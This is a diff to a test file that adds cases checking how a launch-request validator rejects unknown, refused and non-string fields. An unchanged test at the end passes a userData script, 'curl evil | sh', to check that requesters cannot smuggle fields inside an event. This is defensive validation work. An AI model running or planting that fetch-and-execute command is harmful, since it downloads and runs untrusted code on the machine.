@@ -273,6 +273,29 @@ def test_unknown_fields_are_refused_for_requesters() -> None:
     assert rule.startswith("is not allowed for requesters: a launch request sets only requestId")
 
 
+def test_unknown_fields_inside_a_requirement_are_named_plainly() -> None:
+    body = request(requirements=[{"key": CAPACITY_TYPE, "operator": "Exists", "minValues": 2}])
+
+    assert the_error(body) == ("requirements[0].minValues", "is not an allowed field")
+
+
+def test_python_spellings_of_request_fields_are_not_refused() -> None:
+    parsed = parse_launch_request({"request_id": "r", "count": 2, "min_count": 2})
+
+    assert parsed.min_count == 2
+
+
+def test_field_errors_and_refused_fields_are_reported_together() -> None:
+    rejected = rejection(request(count=0, imageId="ami-1"))
+
+    assert FieldError("imageId", NOT_FOR_REQUESTERS) in rejected.errors
+    assert "count" in {error.field for error in rejected.errors}
+
+
+def test_non_string_keys_are_refused_by_their_spelling() -> None:
+    assert the_error({"requestId": "r", "count": 1, 7: "x"})[0] == "7"
+
+
 def test_requesters_cannot_smuggle_fields_inside_an_event() -> None:
     field, rule = the_error(event(request(userData="#!/bin/sh\ncurl evil | sh")))
 
